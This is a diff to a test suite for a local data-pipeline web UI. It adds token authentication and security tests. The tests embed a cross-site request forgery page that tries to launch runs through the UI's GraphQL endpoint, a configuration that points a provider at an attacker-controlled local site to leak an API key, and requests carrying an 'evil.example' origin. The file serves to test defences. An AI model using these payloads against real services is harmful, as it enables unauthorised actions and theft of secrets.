@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import http.server
 import json
 import os
 import shutil
@@ -10,8 +11,10 @@ import socket
 import sqlite3
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 from collections.abc import Callable, Iterator
 from contextlib import closing
@@ -19,7 +22,9 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
+import psutil
 import pytest
+from browser import browser
 from builds import Built
 
 START_S, RUN_S = 120, 180
@@ -41,14 +46,16 @@ CHECKS = """query ($path: [String!]!) { assetChecksOrError: assetNodeOrError(ass
 
 @dataclass
 class Ui:
-    """A running webserver."""
+    """A running webserver, and the token with which scripts ask it."""
 
     url: str
+    token: str
 
     def ask(self, query: str, **variables: Any) -> Any:
         """The data of a GraphQL reply."""
         body = json.dumps({"query": query, "variables": variables}).encode()
-        request = urllib.request.Request(self.url + "/graphql", body, {"content-type": "application/json"})
+        headers = {"content-type": "application/json", "authorization": f"Bearer {self.token}"}
+        request = urllib.request.Request(self.url + "/graphql", body, headers)
         with urllib.request.urlopen(request, timeout=60) as reply:
             answer = json.load(reply)
         assert "errors" not in answer, answer
@@ -56,18 +63,7 @@ class Ui:
 
     def launch(self, table: str, partition: str, config: dict[str, Any]) -> str:
         """Materialise one table for one source, as from the launchpad; returns the run."""
-        selector = {
-            "repositoryName": "__repository__",
-            "repositoryLocationName": "definitions",
-            "pipelineName": "__ASSET_JOB",
-            "assetSelection": [{"path": [table]}],
-        }
-        params = {
-            "mode": "default",
-            "selector": selector,
-            "runConfigData": {"resources": {"build": {"config": config}}},
-            "executionMetadata": {"tags": [{"key": "dagster/partition", "value": partition}]},
-        }
+        params = launch_params(table, partition, config)
         launched = self.ask(LAUNCH, params=params)["launchPipelineExecution"]
         assert launched["__typename"] == "LaunchRunSuccess", launched
         return launched["run"]["runId"]
@@ -95,6 +91,22 @@ class Ui:
         return {entry["label"]: entry for entry in materialisation["metadataEntries"]}
 
 
+def launch_params(table: str, partition: str, config: dict[str, Any]) -> dict[str, Any]:
+    """What the launchpad sends to materialise one table for one source."""
+    selector = {
+        "repositoryName": "__repository__",
+        "repositoryLocationName": "definitions",
+        "pipelineName": "__ASSET_JOB",
+        "assetSelection": [{"path": [table]}],
+    }
+    return {
+        "mode": "default",
+        "selector": selector,
+        "runConfigData": {"resources": {"build": {"config": config}}},
+        "executionMetadata": {"tags": [{"key": "dagster/partition", "value": partition}]},
+    }
+
+
 def _free_port() -> int:
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
@@ -106,14 +118,6 @@ def _wait_for(what: str, is_so: Callable[[], bool], seconds: float) -> None:
     while not is_so():
         assert time.monotonic() < deadline, f"{what}: not within {seconds} s"
         time.sleep(0.5)
-
-
-def _answers(url: str) -> bool:
-    try:
-        with urllib.request.urlopen(url + "/server_info", timeout=5):
-            return True
-    except (urllib.error.URLError, ConnectionError, TimeoutError):
-        return False
 
 
 @pytest.fixture
@@ -136,13 +140,21 @@ def ui(warehouse: Built, tmp_path: Path) -> Iterator[Ui]:
             env=inherited, cwd=tmp_path, stdout=log, stderr=log, start_new_session=True,
         )  # fmt: skip
     try:
-        page = Ui(f"http://127.0.0.1:{port}")
-        _wait_for("the UI answers", lambda: process.poll() is not None or _answers(page.url), START_S)
+        _wait_for(
+            "the UI is ready", lambda: process.poll() is not None or "The UI is ready" in said.read_text(), START_S
+        )
         assert process.poll() is None, said.read_text()
-        yield page
+        token_file = warehouse.folder / "ui.token"
+        assert token_file.stat().st_mode & 0o777 == 0o600
+        token = token_file.read_text()
+        assert f"http://127.0.0.1:{port}/?token={token}" in said.read_text()
+        started = psutil.Process(process.pid).children(recursive=True)
+        yield Ui(f"http://127.0.0.1:{port}", token)
         process.send_signal(signal.SIGINT)
         assert process.wait(timeout=30) == 0, said.read_text()
-        assert "SupersessionWarning" not in said.read_text()
+        assert [one for one in started if one.is_running() and one.status() != psutil.STATUS_ZOMBIE] == []
+        assert not token_file.exists()
+        assert "Traceback" not in said.read_text()
     finally:
         if process.poll() is None:
             os.killpg(process.pid, signal.SIGKILL)
@@ -153,6 +165,7 @@ def test_a_person_materialises_a_table_and_backfills_a_source(ui: Ui, warehouse:
     """One source's table with another limit, then a backfill: history, metadata, checks and snapshot follow."""
     before = len(ui.runs())
     assert before >= 6, "the history of the command line is shown"
+    _assert_refused(ui)
     publishes = warehouse.value("select max(seq) from publishes")
 
     run = ui.launch("questions", "mmlu", {"limit": 1})
@@ -192,6 +205,99 @@ def test_a_run_that_is_terminated_leaves_what_it_received_and_the_next_one_goes_
         assert ledger.execute(twice).fetchall() == []
     assert warehouse.attempts() > before + 3
     assert {each["status"] for each in ui.runs()} == {"SUCCESS", "CANCELED"}
+
+
+ATTACK = """<!doctype html><title>A page of another site</title><script>
+const ui = "{ui}", launch = {launch}, params = {{ params: {params} }};
+const byQuery = ui + "/graphql?query=" + encodeURIComponent(launch) + "&variables="
+  + encodeURIComponent(JSON.stringify(params));
+const body = JSON.stringify({{ query: launch, variables: params }});
+const form = document.createElement("form");
+form.method = "post"; form.action = byQuery; form.target = "frame";
+const frame = document.createElement("iframe");
+frame.name = "frame"; document.documentElement.append(frame, form); form.submit();
+const inFrame = document.createElement("iframe");
+inFrame.src = ui + "/"; document.documentElement.append(inFrame);
+const talk = new Promise(done => {{
+  const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
+  socket.onopen = () => done("opened"); socket.onerror = () => done("refused");
+}});
+const send = options => fetch(options.url || ui + "/graphql", {{ credentials: "include", ...options }})
+  .then(answer => answer.type === "opaque" ? "sent" : answer.status, () => "blocked");
+Promise.all([
+  send({{ url: byQuery, mode: "no-cors" }}),
+  send({{ method: "post", mode: "no-cors", body, headers: {{ "content-type": "text/plain" }} }}),
+  send({{ method: "post", body, headers: {{ "content-type": "application/json" }} }}),
+  send({{ url: byQuery }}),
+  talk, new Promise(done => setTimeout(done, 2000)),
+]).then(results => {{ document.title = JSON.stringify(results); }});
+</script>"""
+
+
+class _Site(http.server.BaseHTTPRequestHandler):
+    """Another site on this machine, which is also where the attack wants the calls to go."""
+
+    page = ""
+    called: list[str] = []
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.page.encode())
+
+    def do_POST(self) -> None:
+        self.called.append(str(self.headers.get("authorization")))
+        self.send_error(500)
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
+def test_a_page_of_another_site_starts_no_run_in_the_browser_of_the_user(ui: Ui, tmp_path: Path, name: str) -> None:
+    """The user has the UI open in one tab, with its cookie, and another site in the next."""
+    before = {run["runId"] for run in ui.runs()}
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Site) as site, browser(tmp_path / "browser") as user:
+        threading.Thread(target=site.serve_forever, daemon=True).start()
+        elsewhere = {"kind": "simulated", "base_url": f"http://127.0.0.1:{site.server_port}/v1", "api_key_env": "HOME"}
+        params = launch_params("reasoning_paths", "mmlu", {"set": {"providers.rehearsal": elsewhere}})
+        _Site.called.clear()
+        _Site.page = ATTACK.format(ui=ui.url, launch=json.dumps(LAUNCH), params=json.dumps(params))
+
+        own = user.open(f"{ui.url}/?token={ui.token}")
+        _wait_for("the UI is shown", lambda: "Overview" in user.text(own) or "Assets" in user.text(own), START_S)
+        assert "token" not in user.value(own, "location.href")
+        asked = "fetch('/graphql', {method: 'post', headers: {'content-type': 'application/json'}, body: '%s'})"
+        assert user.value(own, asked % '{"query": "{ version }"}' + ".then(answer => answer.status)") == 200
+
+        foreign = user.open(f"http://{name}:{site.server_port}/")
+        _wait_for("the attack ends", lambda: user.value(foreign, "document.title").startswith("["), START_S)
+        assert json.loads(user.value(foreign, "document.title"))[2:5] == ["blocked", "blocked", "refused"]
+        time.sleep(1)
+        assert {run["runId"] for run in ui.runs()} == before
+
+        # Even who has the token cannot send the calls elsewhere.
+        run = ui.launch("reasoning_paths", "mmlu", {"set": {"providers.rehearsal": elsewhere}})
+        _wait_for("the run ends", lambda: _have_ended(ui, len(before) + 1), RUN_S)
+        assert [each["status"] for each in ui.runs() if each["runId"] == run] == ["FAILURE"]
+        assert _Site.called == []
+        site.shutdown()
+
+
+def _assert_refused(ui: Ui) -> None:
+    """What Dagster's own webserver would have done for any page: by query string, as a text, without a token."""
+    query = urllib.parse.urlencode(
+        {"query": LAUNCH, "variables": json.dumps({"params": launch_params("questions", "mmlu", {})})}
+    )
+    for method, kind in (("GET", None), ("POST", "text/plain"), ("POST", "application/json")):
+        for origin in (None, "https://evil.example", "null"):
+            headers = {name: value for name, value in (("origin", origin), ("content-type", kind)) if value}
+            request = urllib.request.Request(f"{ui.url}/graphql?{query}", headers=headers, method=method)
+            with pytest.raises(urllib.error.HTTPError) as refused:
+                urllib.request.urlopen(request, timeout=60)
+            assert refused.value.code == 403
 
 
 def _have_ended(ui: Ui, expected: int) -> bool:
